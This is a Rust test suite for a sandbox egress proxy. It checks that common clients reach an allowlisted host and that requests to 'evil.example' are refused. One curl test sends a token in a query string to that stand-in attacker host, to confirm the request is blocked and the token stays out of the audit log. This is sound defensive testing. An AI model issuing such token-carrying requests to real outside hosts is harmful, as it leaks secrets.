//! Real clients through the real proxy: an allowed host works with what each of them sends by
//! default, and a refusal is quick and readable.

use std::{
    fs,
    net::Ipv4Addr,
    path::{Path, PathBuf},
    process::{Command, Output},
    sync::Arc,
};

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::{
    origin::{Behaviour, read_request},
    unique_loopback,
    world::{POLICY, World},
};

/// A web site of static files behind `allowed.example`, and what a client needs to reach it.
struct Site {
    world: World,
    folder: TempDir,
}

impl Site {
    fn start() -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("hello.txt"), "hello from the origin\n").unwrap();
        let world = World::with_origins(POLICY, files(folder.path()), files(folder.path()));
        fs::write(folder.path().join("ca.pem"), &world.authority.pem).unwrap();
        Self { world, folder }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn proxy_url(&self) -> String {
        format!("http://{}", self.world.proxy.listener("proxy"))
    }

    /// Runs a client with the environment that a sandbox has: the proxy in both letter cases, and
    /// the authority by every name that clients know it by.
    fn run(&self, program: &str, args: &[&str]) -> Output {
        let proxy = self.proxy_url();
        let ca = self.path("ca.pem");
        let mut command = Command::new("timeout");
        command
            .args(["240", program])
            .args(args)
            .current_dir(self.folder.path());
        command
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default());
        command
            .env("HOME", self.folder.path())
            .env("CGO_ENABLED", "0")
            .env("GOCACHE", concat!(env!("CARGO_TARGET_TMPDIR"), "/go"))
            .env("LC_ALL", "C.UTF-8");
        for name in ["http_proxy", "https_proxy", "all_proxy"] {
            command.env(name, &proxy).env(name.to_uppercase(), &proxy);
        }
        for name in [
            "SSL_CERT_FILE",
            "CURL_CA_BUNDLE",
            "REQUESTS_CA_BUNDLE",
            "PIP_CERT",
            "GIT_SSL_CAINFO",
            "NODE_EXTRA_CA_CERTS",
            "npm_config_cafile",
        ] {
            command.env(name, &ca);
        }
        command
            .output()
            .unwrap_or_else(|error| panic!("{program}: {error}; run make deps"))
    }

    /// Runs a client that must succeed, and gives what it printed.
    fn succeed(&self, program: &str, args: &[&str]) -> String {
        let output = self.run(program, args);
        let said = String::from_utf8_lossy(&output.stderr);
        let records = self.world.proxy.audit();
        assert!(
            output.status.success(),
            "{program} {args:?}: {said}\n{records:#?}"
        );
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    /// Runs a client that must fail, and gives what it said.
    fn fail(&self, program: &str, args: &[&str]) -> String {
        let output = self.run(program, args);
        assert_ne!(
            output.status.code(),
            Some(0),
            "{program} {args:?}: {output:?}"
        );
        assert_ne!(output.status.code(), Some(124), "{program} {args:?} hangs");
        let said = [output.stdout, output.stderr].concat();
        String::from_utf8_lossy(&said).into_owned()
    }

    /// The roads of every allowed decision so far, for `allowed.example` alone.
    fn allowed_by(&self) -> Vec<Value> {
        let decisions = self.world.proxy.events("decision").into_iter();
        let allowed: Vec<Value> = decisions
            .filter(|line| line["decision"] == "allow")
            .collect();
        assert!(
            allowed.iter().all(|line| line["host"] == "allowed.example"),
            "{allowed:#?}"
        );
        allowed.iter().map(|line| line["via"].clone()).collect()
    }
}

/// Serves the files of a folder, whole.
fn files(folder: &Path) -> Arc<Behaviour> {
    let folder = folder.to_owned();
    Arc::new(move |stream, seen| {
        while let Some((head, _)) = read_request(stream) {
            let path = head.split(' ').nth(1).unwrap_or_default();
            let path = path.split('?').next().unwrap_or_default();
            let (mut name, mut status) = (path.trim_matches('/').to_owned(), "200 OK");
            if folder.join(&name).is_dir() {
                name.push_str("/index.html");
            }
            let content = fs::read(folder.join(&name)).unwrap_or_else(|_| {
                status = "404 Not Found";
                Vec::new()
            });
            let kind = if Path::new(&name)
                .extension()
                .is_some_and(|end| end == "html")
            {
                "text/html"
            } else {
                "application/octet-stream"
            };
            let answer = format!(
                "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n",
                content.len()
            );
            let body = if head.starts_with("HEAD ") {
                &[][..]
            } else {
                &content
            };
            seen.note_head(head);
            let answer = [answer.as_bytes(), body].concat();
            if stream
                .write_all(&answer)
                .and_then(|()| stream.flush())
                .is_err()
            {
                return;
            }
        }
    })
}

const HELLO: &str = "hello from the origin\n";

#[test]
fn curl_works_by_both_roads_and_is_told_what_was_refused() {
    let site = Site::start();
    for url in [
        "https://allowed.example/hello.txt",
        "http://allowed.example/hello.txt",
        "https://ALLOWED.example/hello.txt",
        "http://allowed.example./hello.txt",
    ] {
        assert_eq!(site.succeed("curl", &["-sS", url]), HELLO, "{url}");
    }
    assert_eq!(site.allowed_by(), ["connect", "http", "connect", "http"]);
    let said = site.fail("curl", &["-sS", "-v", "https://evil.example/"]);
    assert!(said.contains("HTTP/1.1 403"), "{said}");
    assert!(said.contains("details=\"not_allowlisted\""), "{said}");
    let said = site.fail(
        "curl",
        &[
            "-sS",
            "--fail-with-body",
            "http://evil.example/?token=secret",
        ],
    );
    assert!(
        said.contains("ask the operator to allow evil.example:80"),
        "{said}"
    );
    let log = fs::read_to_string(site.world.proxy.folder().join("audit.jsonl")).unwrap();
    assert!(!log.contains("secret"), "{log}");
    let upload = ["-sS", "-T", "ca.pem", "http://allowed.example/hello.txt"];
    assert_eq!(site.succeed("curl", &upload), HELLO);
}

#[test]
fn wget_works_by_both_roads() {
    let site = Site::start();
    let ca = site.path("ca.pem").display().to_string();
    for url in [
        "https://allowed.example/hello.txt",
        "http://allowed.example/hello.txt",
    ] {
        let args = ["-q", "-O", "-", "--ca-certificate", &ca, url];
        assert_eq!(site.succeed("wget", &args), HELLO, "{url}");
    }
    let said = site.fail("wget", &["-O", "-", "--tries=1", "http://evil.example/"]);
    assert!(said.contains("403"), "{said}");
}

#[test]
fn python_and_its_libraries_work() {
    let site = Site::start();
    for (what, code) in [
        (
            "urllib",
            "import urllib.request as u, sys; print(end=u.urlopen(sys.argv[1]).read().decode())",
        ),
        (
            "requests",
            "import requests, sys; r = requests.get(sys.argv[1]); r.raise_for_status(); print(end=r.text)",
        ),
        (
            "httpx",
            "import httpx, sys; r = httpx.get(sys.argv[1]); r.raise_for_status(); print(end=r.text)",
        ),
        (
            "aiohttp",
            "import aiohttp, asyncio, sys\n\
             async def main():\n\
             \x20 async with aiohttp.ClientSession(trust_env=True) as s, s.get(sys.argv[1]) as r:\n\
             \x20   print(end=await r.text())\n\
             asyncio.run(main())",
        ),
    ] {
        for scheme in ["https", "http"] {
            let url = format!("{scheme}://allowed.example/hello.txt");
            assert_eq!(
                site.succeed("python3", &["-c", code, &url]),
                HELLO,
                "{what} {scheme}"
            );
        }
        let said = site.fail("python3", &["-c", code, "https://evil.example/"]);
        assert!(said.contains("403"), "{what}: {said}");
    }
}

#[test]
fn pip_installs_from_an_allowed_index() {
    let site = Site::start();
    let wheel = "import zipfile\n\
        w = zipfile.ZipFile('simple/hello/hello-1.0-py3-none-any.whl', 'w')\n\
        d = 'hello-1.0.dist-info'\n\
        w.writestr('hello.py', 'print(\"installed\")')\n\
        w.writestr(d + '/METADATA', 'Metadata-Version: 2.1\\nName: hello\\nVersion: 1.0\\n')\n\
        w.writestr(d + '/WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
        w.writestr(d + '/RECORD', '')\n\
        w.close()";
    fs::create_dir_all(site.path("simple/hello")).unwrap();
    site.succeed("python3", &["-c", wheel]);
    let link = "<a href=\"hello-1.0-py3-none-any.whl\">hello-1.0-py3-none-any.whl</a>";
    fs::write(site.path("simple/hello/index.html"), link).unwrap();
    let args = [
        "-m",
        "pip",
        "install",
        "--quiet",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "--index-url",
        "https://allowed.example/simple/",
        "--target",
        "installed",
        "hello",
    ];
    site.succeed("python3", &args);
    assert!(site.path("installed/hello.py").exists());
    assert!(site.allowed_by().iter().all(|via| via == "connect"));
}

#[test]
fn git_clones_over_https_and_fails_quickly_where_it_may_not() {
    let site = Site::start();
    let made = "git init -q -b main work && cd work && git config user.email a@example.com && \
                git config user.name A && echo content > file && git add file && \
                git commit -q -m one && cd .. && git clone -q --bare work repo.git && \
                git -C repo.git update-server-info";
    site.succeed("bash", &["-ec", made]);
    site.succeed(
        "git",
        &["clone", "-q", "https://allowed.example/repo.git", "copy"],
    );
    assert_eq!(
        fs::read_to_string(site.path("copy/file")).unwrap(),
        "content\n"
    );
    let said = site.fail(
        "git",
        &["clone", "-q", "https://evil.example/repo.git", "none"],
    );
    assert!(said.contains("403"), "{said}");
}

#[test]
fn node_reaches_an_allowed_host_through_the_proxy() {
    let site = Site::start();
    let code = r"
const http = require('http'), tls = require('tls'), fs = require('fs');
const proxy = new URL(process.env.https_proxy);
const at = { host: proxy.hostname, port: proxy.port };
http.get({ ...at, path: 'http://allowed.example/hello.txt', headers: { Host: 'allowed.example' } }, r => {
  r.pipe(process.stdout);
  r.on('end', () => {
    http.request({ ...at, method: 'CONNECT', path: 'allowed.example:443',
                   headers: { Host: 'allowed.example:443' } }).on('connect', (r, socket) => {
      const t = tls.connect({ socket, servername: 'allowed.example' }, () =>
        t.write('GET /hello.txt HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n'));
      let text = '';
      t.on('data', d => { text += d; if (text.endsWith('origin\n')) { process.stdout.write(text.split('\r\n\r\n')[1]); t.destroy(); } });
    }).end();
  });
});
";
    let printed = site.succeed("node", &["-e", code]);
    assert_eq!(printed, format!("{HELLO}{HELLO}"));
    assert_eq!(site.allowed_by(), ["http", "connect"]);
}

#[test]
fn npm_reads_an_allowed_registry() {
    let site = Site::start();
    let packument = json!({
        "name": "hello", "dist-tags": {"latest": "1.2.3"},
        "versions": {"1.2.3": {"name": "hello", "version": "1.2.3",
                     "dist": {"tarball": "https://allowed.example/hello.tgz", "shasum": "0"}}},
    });
    fs::write(site.path("hello"), packument.to_string()).unwrap();
    let args = [
        "view",
        "hello",
        "version",
        "--registry",
        "https://allowed.example/",
    ];
    assert_eq!(site.succeed("npm", &args).trim(), "1.2.3");
}

#[test]
fn java_works_with_both_of_its_clients() {
    let site = Site::start();
    let proxy = site.world.proxy.listener("proxy");
    fs::write(site.path("Fetch.java"), include_str!("clients/Fetch.java")).unwrap();
    let store = [
        "-importcert",
        "-noprompt",
        "-alias",
        "test",
        "-file",
        "ca.pem",
        "-keystore",
        "trust.p12",
        "-storetype",
        "PKCS12",
        "-storepass",
        "changeit",
    ];
    site.succeed("keytool", &store);
    let port = proxy.port().to_string();
    let args = [
        "-Djavax.net.ssl.trustStore=trust.p12",
        "-Djavax.net.ssl.trustStorePassword=changeit",
        "Fetch.java",
        "127.0.0.1",
        &port,
    ];
    assert_eq!(site.succeed("java", &args), HELLO.repeat(4));
    assert_eq!(site.allowed_by(), ["connect", "http", "connect", "http"]);
    let heads = site.world.plain.seen.heads();
    assert!(
        heads
            .iter()
            .all(|head| !head.to_lowercase().contains("upgrade")),
        "{heads:#?}"
    );
}

#[test]
fn go_works() {
    let site = Site::start();
    fs::write(site.path("fetch.go"), include_str!("clients/fetch.go")).unwrap();
    for scheme in ["https", "http"] {
        let url = format!("{scheme}://allowed.example/hello.txt");
        assert_eq!(
            site.succeed("go", &["run", "fetch.go", &url]),
            HELLO,
            "{scheme}"
        );
    }
    assert_eq!(site.allowed_by(), ["connect", "http"]);
}

#[test]
fn a_web_socket_works_in_the_clear_and_only_after_the_origin_agreed() {
    let address: Ipv4Addr = unique_loopback();
    let policy = format!(
        "{POLICY}\n[[profiles.default.rules]]\nhosts = [\"ws.example\"]\naddresses = [\"127.0.0.0/8\"]\n"
    );
    let folder = tempfile::tempdir().unwrap();
    let world = World::with_origins(&policy, files(folder.path()), files(folder.path()));
    world
        .upstream
        .set_addresses("ws.example", &[&address.to_string()]);
    let site = Site { world, folder };
    let code = include_str!("clients/websocket.py");
    let printed = site.succeed("python3", &["-c", code, &address.to_string()]);
    assert_eq!(printed, "echo: hello\n");
    let is_close = |line: &Value| line["event"] == "close";
    let close = site.world.proxy.await_event("its close", is_close);
    assert_eq!(close["status"], 101, "{close:#?}");
}
